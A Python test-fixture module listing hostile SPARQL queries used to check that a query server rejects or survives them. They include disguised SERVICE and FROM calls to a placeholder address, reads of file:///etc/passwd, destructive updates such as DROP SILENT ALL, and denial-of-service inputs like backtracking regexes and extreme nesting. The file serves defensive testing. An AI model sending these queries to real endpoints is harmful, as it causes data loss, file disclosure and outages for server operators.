"""Queries meant to stall, crash, fill or leave the server; `THERE` stands for an address nobody may call."""

from __future__ import annotations

__all__ = ["ELSEWHERE", "HOSTILE", "THERE"]

THERE = "http://127.0.0.1:9/"
P = "PREFIX : <http://example.org/> "


def _chain(joint, count, part):
    return joint.join([part] * count)


def _doubling(form, times):
    binds = "".join(f"BIND({form.format(f'?a{n}')} AS ?a{n + 1}) " for n in range(times))
    return f"SELECT * {{ BIND('0123456789' AS ?a0) {binds} }}"


ELSEWHERE = [
    f"SELECT * {{ SERVICE <{THERE}> {{ ?s ?p ?o }} }}",
    f"SELECT * {{ service silent <{THERE}> {{ ?s ?p ?o }} }}",
    f"SELECT * {{ SeRvIcE<{THERE}>{{}} }}",
    f"PREFIX t: <{THERE}> SELECT * {{ SERVICE t:x {{ ?s ?p ?o }} }}",
    f"PREFIX : <{THERE}> SELECT * {{ ?s ?p ?o SERVICE:x {{ ?a ?b ?c }} }}",
    f"PREFIX : <{THERE}> PREFIX SERVICE: <{THERE}> SELECT * {{ ?s ?p ?o SERVICE:x {{ ?a ?b ?c }} }}",
    f"PREFIX : <{THERE}> SELECT * {{ FILTER(1<2)SERVICE:x#>\n{{ ?a ?b ?c }} }}",
    f"SELECT * {{ VALUES ?t {{ <{THERE}> }} FILTER(1<?t)SERVICE?t#>\n{{ ?a ?b ?c }} }}",
    f"SELECT * {{ OPTIONAL {{ ?s ?p trueSERVICE <{THERE}> {{ ?a ?b ?c }} }} }}",
    f"PREFIX p: <http://e:> SELECT * {{ OPTIONAL {{ ?s ?p p:SERVICE <{THERE}> {{ ?a ?b ?c }} }} }}",
    f"SELECT * {{ VALUES ?t {{ <{THERE}> }} SERVICE ?t {{ ?s ?p ?o }} }}",
    f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ SERVICE <{THERE}> {{ ?s ?q ?r }} }} }}",
    f"SELECT * {{ ?s ?p ?o FILTER NOT EXISTS {{ {{ SERVICE SILENT <{THERE}> {{ ?s ?q ?r }} }} }} }}",
    f"CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE <{THERE}> {{ ?s ?p ?o }} }}",
    f"ASK {{ OPTIONAL {{ SERVICE <{THERE}> {{ ?s ?p ?o }} }} }}",
    f"DESCRIBE ?s {{ SERVICE <{THERE}> {{ ?s ?p ?o }} }}",
    f"SELECT * {{ {{ SELECT * {{ SERVICE <{THERE}> {{ ?s ?p ?o }} }} }} }}",
    f"SELECT * {{ SERVICE # comment\n SILENT # comment\n <{THERE}> {{ ?s ?p ?o }} }}",
]
"""What asks another server as soon as the engine reads it."""

HOSTILE = [
    *ELSEWHERE,
    # other ways out
    rf"SELECT * {{ \u0053\u0045RVICE <{THERE}> {{ ?s ?p ?o }} }}",
    rf"SELECT * {{ ?s ?p \u0027x\u0027 . SERV\U00000049CE <{THERE}> {{ ?s ?p ?o }} }}",
    f"SELECT * FROM <{THERE}> {{ ?s ?p ?o }}",
    f"SELECT * FROM NAMED <{THERE}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    f"PREFIX FROM: <{THERE}> SELECT * FROM:x {{ ?s ?p ?o }}",
    f"LOAD <{THERE}>",
    "LOAD <file:///etc/passwd> INTO GRAPH <http://example.org/g>",
    # updates
    "INSERT DATA { <http://e/a> <http://e/b> 1 }",
    "DELETE WHERE { ?s ?p ?o }",
    "ASK {} ; CLEAR ALL",
    "DROP SILENT ALL",
    # products and counts of products
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(?c != ?f) ?g ?h ?i }",
    "SELECT (SUM(STRLEN(STR(?c)) * STRLEN(STR(?f))) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "SELECT DISTINCT ?c ?f ?i { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?i ?f ?c",
    "SELECT ?a (GROUP_CONCAT(?f) AS ?t) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a",
    "SELECT ?x (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f BIND(CONCAT(STR(?c), STR(?f)) AS ?x) } GROUP BY ?x",
    "CONSTRUCT { ?a ?b ?f . ?d ?e ?c } { ?a ?b ?c . ?d ?e ?f }",
    "CONSTRUCT { ?a ?b _:x . _:x ?e ?f } { ?a ?b ?c . ?d ?e ?f }",
    "DESCRIBE * { ?a ?b ?c . ?d ?e ?f }",
    "ASK { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(CONCAT(STR(?c), STR(?f), STR(?i)) = 'no') }",
    "SELECT * { { ?a ?b ?c } UNION { ?a ?b ?c } { ?d ?e ?f } UNION { ?d ?e ?f } { ?g ?h ?i } UNION { ?g ?h ?i } }",
    "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f OPTIONAL { ?g ?h ?i FILTER(?c != ?i) } } }",
    "SELECT * { ?a ?b ?c MINUS { ?d ?e ?f . ?g ?h ?i } }",
    "SELECT * { ?a ?b ?c FILTER NOT EXISTS { ?d ?e ?f FILTER NOT EXISTS { ?g ?h ?i FILTER(?c != ?f && ?i != ?f) } } }",
    "SELECT * { GRAPH ?x { ?a ?b ?c } GRAPH ?y { ?d ?e ?f } GRAPH ?z { ?g ?h ?i } }",
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(RAND() > 2) }",
    "SELECT (UUID() AS ?u) (SHA512(CONCAT(STR(?c), STR(?f))) AS ?h) { ?a ?b ?c . ?d ?e ?f } ORDER BY ?h",
    # paths
    P + "SELECT * { ?a :knows* ?b . ?b :knows* ?c . ?c :knows* ?d }",
    P + "SELECT (COUNT(*) AS ?n) { ?a (:knows|^:knows)* ?b }",
    P + "SELECT (COUNT(*) AS ?n) { ?a (:knows/:knows*)* ?b }",
    P + "SELECT (COUNT(*) AS ?n) { ?a !:no* ?b . ?c !:no* ?d }",
    P + "SELECT (COUNT(*) AS ?n) { ?a (:knows*)*/(:knows*)*/(:knows*)* ?b }",
    P + f"SELECT * {{ ?a {_chain('/', 400, ':knows')} ?b }}",
    P + f"SELECT * {{ ?a {_chain('/', 100, ':knows?')} ?b }}",
    P + f"SELECT * {{ ?a {_chain('|', 1900, ':knows')} ?b }}",
    P + f"SELECT * {{ ?a {_chain('|', 2500, ':knows')} ?b }}",
    P + f"SELECT * {{ ?a {'(' * 59}:knows{')*' * 59} ?b }}",
    P + f"SELECT * {{ ?a {'^' * 5000}:knows ?b }}",
    # deep and long texts
    "SELECT * " + "{" * 10_000 + "}" * 10_000,
    f"ASK {{ FILTER({'(' * 10_000}1{')' * 10_000}) }}",
    f"ASK {{ FILTER({'(' * 58}1{')' * 58}) }}",
    f"ASK {{ FILTER({'!' * 20_000}1) }}",
    f"ASK {{ FILTER({'!' * 1_900}true) }}",
    f"ASK {{ FILTER({_chain('+', 8_000, '1')}) }}",
    f"SELECT * {{ ?s ?p ?x FILTER({_chain('||', 1_900, '?x = 1')}) }}",
    f"SELECT (IF({'IF(1,1,' * 50}1{')' * 50},1,1) AS ?x) {{}}",
    f"SELECT * {{ {'[ ?p ' * 55} 1 {']' * 55} ?q 1 }}",
    f"SELECT * {{ {'(' * 55} 1 {')' * 55} ?q 1 }}",
    f"SELECT * {{ ({'1 ' * 5_000}) ?p ?o }}",
    f"SELECT * {{ ?s ?p ?o {'FILTER EXISTS { ?s ?p ?o ' * 55} {'}' * 55} }}",
    f"SELECT * {{ {'?s ?p ?o . ' * 2_500} }}",
    f"SELECT * {{ {''.join(f'?s ?p ?x{n} . ' for n in range(1_500))} }}",
    f"SELECT * {{ {_chain(' UNION ', 1_900, '{ ?s ?p ?o }')} }}",
    f"SELECT * {{ ?s ?p ?o {'OPTIONAL { ?s ?p ?o } ' * 1_400} }}",
    f"SELECT * {{ {'{ ?s ?p ?o } ' * 2_000} }}",
    f"SELECT * {{ ?s ?p ?o FILTER(?o IN ({_chain(',', 1_900, '1')})) }}",
    f"SELECT * {{ ?s ?p ?o FILTER(?o IN ({_chain(',', 15_000, '1')})) }}",
    f"SELECT * {{ VALUES ?a {{ {'1 ' * 15_000} }} VALUES ?b {{ 1 2 3 }} VALUES ?c {{ 1 2 3 }} }}",
    f"SELECT * {{ VALUES ?a {{ {'1 ' * 7_000} }} VALUES ?b {{ {'1 ' * 7_000} }} }}",
    f"DESCRIBE {'<http://example.org/p1> ' * 1_300}",
    f"SELECT {''.join(f'(1 AS ?v{n}) ' for n in range(1_900))} {{}}",
    "SELECT " + "?x" * 20_000,
    "ASK { '" + "x" * 40_000 + "' ?p ?o }",
    "ASK { ?s ?p '''" + "''\\" * 9_000 + "''' }",
    "a." * 16_000,
    # strings
    _doubling("CONCAT({0},{0})", 40),
    _doubling("REPLACE({0}, '.', '$0$0')", 40),
    _doubling("ENCODE_FOR_URI(CONCAT({0}, 'č', {0}))", 40),
    "SELECT * { BIND(REPLACE('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', '(a+)+$', '$1$1$1') AS ?x) }",
    "ASK { FILTER(REGEX('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '^(a+)+$')) }",
    "ASK { ?s ?p ?o FILTER(REGEX(STR(?o), '(((((a{1,100}){1,100}){1,100}){1,100}){1,100})')) }",
    "ASK { ?s ?p ?o FILTER(REGEX(STR(?o), '" + "(" * 5_000 + "')) }",
    "ASK { ?s ?p ?o FILTER(REGEX(STR(?o), '" + ".*" * 5_000 + "x', 'i')) }",
    "SELECT (SUBSTR('x', 9223372036854775807, 9223372036854775807) AS ?x) {}",
    "SELECT (9223372036854775807 + 1 AS ?x) (-9223372036854775808 / -1 AS ?y) (1 / 0 AS ?z) {}",
    "SELECT * {} LIMIT 9223372036854775807 OFFSET 9223372036854775807",
    "SELECT * { ?s ?p ?o } LIMIT 99999999999999999999999999",
    "SELECT ('1e999999999'^^<http://www.w3.org/2001/XMLSchema#double> AS ?x) {}",
    "SELECT ('99999999999-01-01'^^<http://www.w3.org/2001/XMLSchema#date> AS ?x) (YEAR(?x) AS ?y) {}",
    "\x00",
    "ASK { ?s ?p '\x00' }",
]
